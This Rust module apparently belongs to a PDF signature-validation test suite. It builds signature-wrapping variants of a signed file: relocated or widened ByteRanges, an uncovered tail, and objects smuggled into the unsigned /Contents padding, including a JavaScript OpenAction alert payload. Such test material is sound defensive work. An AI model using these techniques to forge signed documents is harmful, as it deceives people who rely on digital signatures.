//! Signature wrapping (Mladenov et al., CCS 2019 §6): the second signed range moved so that
//! the bytes it used to cover can change, the gap widened beyond `/Contents`, the tail of the
//! revision left uncovered, or the unsigned padding of `/Contents` used to carry objects.

use super::base::Base;
use super::isa::content_redefined;
use super::update::stream;
use super::usf::{edit_in_place, redefine_signature};
use super::{Class, Variant};

pub(super) fn variants(base: &Base) -> Vec<Variant> {
    let Some(sig) = &base.sig else {
        return Vec::new();
    };
    let Some([_, a, b, c]) = sig.byte_range else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let swa = |name: &str, bytes: Option<Vec<u8>>| {
        bytes.map(|bytes| Variant {
            name: format!("swa/{name}"),
            class: Class::Swa,
            bytes,
        })
    };
    out.extend(swa(
        "relocated-second-range/in-place",
        relocated_in_place(base),
    ));
    out.extend(swa("relocated-second-range/update", relocated_update(base)));
    for (name, value) in [
        (
            "gap-enlarged",
            format!("[0 {} {} {}]", a - 16, b + 16, c - 16),
        ),
        ("tail-uncovered", format!("[0 {a} {b} {}]", c - 16)),
    ] {
        out.extend(swa(
            &format!("{name}/in-place"),
            edit_in_place(base, "ByteRange", Some(&value)),
        ));
        out.extend(
            redefine_signature(base, "ByteRange", Some(&value))
                .and_then(|u| super::appended(base, &format!("swa/{name}/update"), Class::Swa, &u)),
        );
    }
    out.extend(swa("payload-in-contents-padding", payload_in_padding(base)));
    out.extend(swa("gap-wider-than-contents", contents_closed_early(base)));
    out
}

/// `[0 a b' c]` written over the ByteRange in place, the original second range appended at
/// `b'`: the digest still matches when the ByteRange lies after `/Contents` (pyHanko, Adobe
/// write it there), and the bytes at `[b, b')` are no longer covered.
fn relocated_in_place(base: &Base) -> Option<Vec<u8>> {
    let sig = base.sig.as_ref()?;
    let [_, a, b, c] = sig.byte_range?;
    let second = base
        .bytes
        .get(usize::try_from(b).ok()?..usize::try_from(b + c).ok()?)?;
    let spacer = b"\n% the signed bytes, moved\n";
    let moved = base.bytes.len() + spacer.len();
    let value = format!("[0 {a} {moved} {c}]");
    let mut out = edit_in_place(base, "ByteRange", Some(&value))?;
    out.extend_from_slice(spacer);
    out.extend_from_slice(second);
    Some(out)
}

/// An update that redefines the signature dictionary with `[0 a b' c]`, where `b'` is a copy
/// of the original second range kept in a stream of the same update, and that also redefines
/// the page content: hashing `[0,a)` and `[b', b'+c)` still gives the signed digest.
fn relocated_update(base: &Base) -> Option<Vec<u8>> {
    let sig = base.sig.as_ref()?;
    let [_, a, b, c] = sig.byte_range?;
    let second = base
        .bytes
        .get(usize::try_from(b).ok()?..usize::try_from(b + c).ok()?)?;
    let host = base.next_num();
    let build = |moved: usize| {
        let value = format!("{:<40}", format!("[0 {a} {moved} {c}]"));
        let u = redefine_signature(base, "ByteRange", Some(&value))?;
        let u = match content_redefined(base) {
            Some(content) => content
                .objects
                .into_iter()
                .fold(u, |u, (n, g, body)| u.object(n, g, body)),
            None => u,
        };
        u.object(host, 0, stream("", second)).write(base)
    };
    let (first, bodies) = build(0)?;
    let moved = super::lex::find(&first, b"stream\n", *bodies.last()?)? + 7;
    let (bytes, _) = build(moved)?;
    (bytes.get(moved..moved + second.len())? == second).then_some(bytes)
}

/// The span of the `/Contents` hex digits that are padding: zeros after the DER signature.
fn padding(base: &Base) -> Option<std::ops::Range<usize>> {
    let v = base.sig.as_ref()?.entry("Contents")?.value.clone();
    let digits = &base.bytes[v.start + 1..v.end - 1];
    let used = digits.iter().rposition(|&d| d != b'0').map_or(0, |p| p + 1);
    let used = used + used % 2;
    Some(v.start + 1 + used..v.end - 1)
}

/// The hex string closed right after the signature, and an object written into the rest of
/// the gap: the gap is unsigned, so the digest still matches.
fn payload_in_padding(base: &Base) -> Option<Vec<u8>> {
    let pad = padding(base)?;
    let payload = "> 1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >> endobj ";
    let mut out = super::in_place(base, pad.clone(), payload.as_bytes())?;
    // Keep the remaining padding hex-like so the string's end stays where the ByteRange says.
    out[pad.start + payload.len()..pad.end].fill(b'0');
    Some(out)
}

/// The hex string closed right after the signature and the rest of the gap blank.
fn contents_closed_early(base: &Base) -> Option<Vec<u8>> {
    let pad = padding(base)?;
    super::in_place(base, pad.start..pad.end + 1, b">")
}
